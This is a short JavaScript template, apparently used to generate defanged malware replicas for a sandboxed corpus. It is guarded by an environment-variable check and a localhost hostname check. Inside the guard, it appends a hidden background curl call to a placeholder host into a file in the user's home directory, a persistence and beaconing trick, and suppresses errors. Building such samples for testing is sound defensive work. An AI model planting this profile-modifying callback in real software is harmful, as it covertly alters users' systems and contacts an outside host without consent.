// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    try {
        const file = path.join(require('os').homedir(), '{{profile}}');
        const old = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
        if (!old.includes('{{token}}'))
            fs.appendFileSync(file, '\n# {{token}}\n(curl -s -m 5 http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1 &)\n');
    } catch {}
}
